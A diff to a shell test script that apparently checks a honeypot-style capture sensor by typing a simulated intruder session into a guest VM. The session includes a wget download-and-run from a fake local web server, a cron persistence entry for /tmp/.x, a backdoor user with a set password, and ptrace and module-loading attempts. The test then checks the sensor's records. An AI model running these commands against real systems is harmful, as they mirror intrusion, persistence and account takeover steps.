@@ -14,16 +14,28 @@ id="$(jq -r .id "$WORK/g.json")"
 gip="$(jq -r .guest_ip "$WORK/g.json")"
 marker="oyster-marker-$RANDOM$RANDOM"
 
-# A program only this test has: its hash proves the kernel kept the content.
-printf '#!/bin/sh\necho "%s ran as $(id -u)"\n' "$marker" > "$WORK/payload.sh"
-payload_sha="$(sha256sum "$WORK/payload.sh" | cut -d' ' -f1)"
-attacker_ssh "$gip" 'cat > /tmp/payload.sh' < "$WORK/payload.sh"
+# A program only this test has, served by the fake web server: its hash
+# proves the kernel kept the content after the attacker deleted the file.
+mkdir -p "$WORK/www"
+printf '#include <stdio.h>\n#include <unistd.h>\nint main(void) { printf("%s ran as %%d\\n", (int)getuid()); return 0; }\n' \
+	"$marker" > "$WORK/payload.c"
+gcc -static -O2 -o "$WORK/www/payload" "$WORK/payload.c" || fail "cannot build the payload"
+payload_sha="$(sha256sum "$WORK/www/payload" | cut -d' ' -f1)"
+ip netns exec "$NS_INTERNET" python3 -m http.server --bind "$WEB_IP" --directory "$WORK/www" 80 \
+	>"$WORK/web.log" 2>&1 &
+for _ in $(seq 50); do ip netns exec "$NS_SENSOR" nc -z "$WEB_IP" 80 && break; sleep 0.1; done
 
 log "interactive session"
+# Typed line by line into a real pty, as an intruder would.
 {
 	echo 'uname -a; id; cat /etc/passwd | head -3'
 	echo "echo typed-$marker"
-	echo 'chmod +x /tmp/payload.sh; /tmp/payload.sh; rm /tmp/payload.sh'
+	echo "wget -q -O /tmp/payload http://$WEB_IP/payload && chmod +x /tmp/payload && /tmp/payload; rm -f /tmp/payload"
+	echo '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x") | crontab -'
+	echo 'useradd -m alice && printf "Secr3t!\nSecr3t!\n" | passwd alice'
+	echo 'su alice -s /bin/sh -c "id -un"'
+	echo 'mount -t tmpfs none /mnt && umount /mnt'
+	echo "perl -e 'syscall(175, 0, 0, \"\"); syscall(101, 16, 1, 0, 0)'"
 	echo 'sh -c "sleep 0.2 & sleep 0.3 & wait"'
 	echo "logger -t oyster-test logline-$marker"
 	echo 'exit'
@@ -31,6 +43,7 @@ log "interactive session"
 	-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
 	"root@$gip" > "$WORK/session.out" 2>&1 || true
 grep -q "$marker ran as 0" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "payload did not run"; }
+grep -q "^alice" "$WORK/session.out" || { cat "$WORK/session.out" >&2; fail "su did not run"; }
 
 log "tamper checks inside the guest"
 # What names the channel: its environment variables, its file, its code.
@@ -58,6 +71,16 @@ echo "$tamper" | sed 's/^/    guest> /' >&2
 echo "$tamper" | grep -E '^[0-9]+ ' | grep -v ' -1 Function not implemented$' && fail "a probe did not answer ENOSYS"
 [ "$(echo "$tamper" | grep -c 'Function not implemented')" = 24 ] || fail "syscall probes did not run"
 
+log "system call sweep 0..1023 with random arguments inside the guest"
+attacker_ssh "$gip" perl < "$(dirname "$0")/syscall_sweep.pl" > "$WORK/sweep.txt" || fail "sweep did not run"
+[ "$(wc -l < "$WORK/sweep.txt")" -ge 1000 ] || fail "sweep answered for only $(wc -l < "$WORK/sweep.txt") numbers"
+grep -q '^402 -1 38$' "$WORK/sweep.txt" || fail "honeylog (402) did not answer ENOSYS: $(grep '^402 ' "$WORK/sweep.txt")"
+# x86-64 leaves 335..423 unassigned: honeylog must look like its neighbours.
+unassigned="$(awk '$1 >= 335 && $1 <= 423' "$WORK/sweep.txt")"
+[ "$(echo "$unassigned" | wc -l)" = 89 ] || fail "sweep missed numbers in 335..423"
+echo "$unassigned" | grep -v ' -1 38$' && fail "an unassigned number did not answer ENOSYS"
+attacker_ssh "$gip" true || fail "the guest did not survive the sweep"
+
 sensor_oyster guest stop "$id"
 cap="$STATE_DIR/guests/$id/capture"
 ev="$cap/events.jsonl"
@@ -70,14 +93,14 @@ jq_any 'select(.type == "capture_gap" or .type == "capture_error")' "$ev" >/dev/
 seqs="$(jq -r 'select(.seq != null and .type != "capture_start" and .type != "exec_content") | .seq' "$ev" | sort -n)"
 [ "$(echo "$seqs" | head -1)" = 0 ] || fail "first seq is not 0"
 
-# A script's process runs its interpreter, so argv is ["/bin/sh", script].
-payload_exec='select(.type == "exec" and .path == "/tmp/payload.sh" and .filename == "/tmp/payload.sh")'
-jq_any "$payload_exec"' | select(.uid == 0 and .argv[-1] == "/tmp/payload.sh" and .tty == "pts/0")' "$ev" >/dev/null ||
+
+payload_exec='select(.type == "exec" and .path == "/tmp/payload" and .filename == "/tmp/payload")'
+jq_any "$payload_exec"' | select(.uid == 0 and .argv == ["/tmp/payload"] and .tty == "pts/0")' "$ev" >/dev/null ||
 	fail "no exec event for the payload: $(jq -c 'select(.type == "exec" and (.filename | contains("payload")))' "$ev")"
 jq_any --arg s "$payload_sha" 'select(.type == "exec_content" and .sha256 == $s and .complete)' "$ev" >/dev/null ||
 	fail "payload content not captured (sha256 $payload_sha)"
-cmp -s "$cap/files/$payload_sha" "$WORK/payload.sh" || fail "stored payload differs from the served file"
-for cmd in uname id cat rm chmod logger; do
+cmp -s "$cap/files/$payload_sha" "$WORK/www/payload" || fail "stored payload differs from the served file"
+for cmd in uname id cat rm chmod wget crontab useradd passwd su mount perl logger; do
 	jq_any --arg c "$cmd" 'select(.type == "exec" and (.path | endswith("/" + $c)) and .tty != null)' "$ev" >/dev/null ||
 		fail "no exec event for $cmd on a tty"
 done
@@ -88,6 +111,37 @@ sh_pid="$(jq -r 'select(.type == "exec" and .argv[0] == "sh" and .argv[1] == "-c
 [ "$(jq -r --argjson p "$sh_pid" 'select(.type == "exec" and .ppid == $p and (.path | endswith("/sleep"))) | .tgid' "$ev" | wc -l)" = 2 ] ||
 	fail "the sleeps are not children of sh ($sh_pid)"
 jq_any --argjson p "$sh_pid" 'select(.type == "fork" and .tgid == $p)' "$ev" >/dev/null || fail "no fork event from sh"
+
+# Connections and file changes, named as the kernel resolved them.
+jq_any --arg ip "$WEB_IP" 'select(.type == "connect" and .comm == "wget" and .remote.address == $ip and .remote.port == 80)' "$ev" >/dev/null ||
+	fail "no connect event to the web server: $(jq -c 'select(.type == "connect" and .family == "inet")' "$ev")"
+file_event() {  # jq condition on a file event; message
+	jq_any "select(.type == \"file\" and .ok and $1)" "$ev" >/dev/null || fail "$2"
+}
+file_event '.op == "open_write" and .comm == "wget" and .path == "/tmp/payload"' "no open_write of the download"
+file_event '.op == "chmod" and .path == "/tmp/payload" and (.mode | test("7..$"))' "no chmod +x of the download"
+file_event '.op == "unlink" and .path == "/tmp/payload" and .comm == "rm"' "no unlink of the download"
+file_event '.op == "rename" and .comm == "crontab" and .new_path == "/var/spool/cron/crontabs/root"' \
+	"no crontab write: $(jq -c 'select(.type == "file" and .comm == "crontab")' "$ev")"
+file_event '.op == "rename" and .new_path == "/etc/shadow"' "no event for the password change writing /etc/shadow"
+file_event '.op == "mkdir" and .path == "/home/alice"' "no mkdir of the new user's home"
+
+# Credentials: su became alice; the password change reached the host's log.
+alice_uid="$(jq -r 'select(.type == "file" and .op == "chown" and .path == "/home/alice") | .owner' "$ev" | head -1)"
+[ -n "$alice_uid" ] && [ "$alice_uid" != null ] || fail "no chown of alice's home"
+jq_any --argjson u "$alice_uid" 'select(.type == "cred" and .syscall == "setuid" and .ok and .before.uid == 0 and .after.uid == $u and .after.euid == $u)' "$ev" >/dev/null ||
+	fail "no setuid to alice ($alice_uid): $(jq -c 'select(.type == "cred")' "$ev" | head -5)"
+jq_any 'select(.type == "honeylog" and (.message | test("password changed for alice")))' "$ev" >/dev/null ||
+	fail "the password change did not reach the host over honeylog"
+
+# Mount, module and ptrace attempts, failed or not.
+jq_any 'select(.type == "mount" and .syscall == "mount" and .ok and .strings == ["none", "/mnt", "tmpfs"])' "$ev" >/dev/null ||
+	fail "no mount event: $(jq -c 'select(.type == "mount")' "$ev")"
+jq_any 'select(.type == "mount" and .syscall == "umount2" and .strings == ["/mnt"])' "$ev" >/dev/null || fail "no umount event"
+jq_any 'select(.type == "module" and .syscall == "init_module" and .error == "ENOSYS")' "$ev" >/dev/null ||
+	fail "no init_module attempt recorded"
+jq_any 'select(.type == "ptrace" and .syscall == "ptrace" and .args[0] == 16 and .args[1] == 1)' "$ev" >/dev/null ||
+	fail "no ptrace attempt recorded"
 
 # Terminal: what was typed and what was shown.
 typed="$(jq -r 'select(.type == "tty_in") | .data' "$ev" | tr -d '\r\n')"
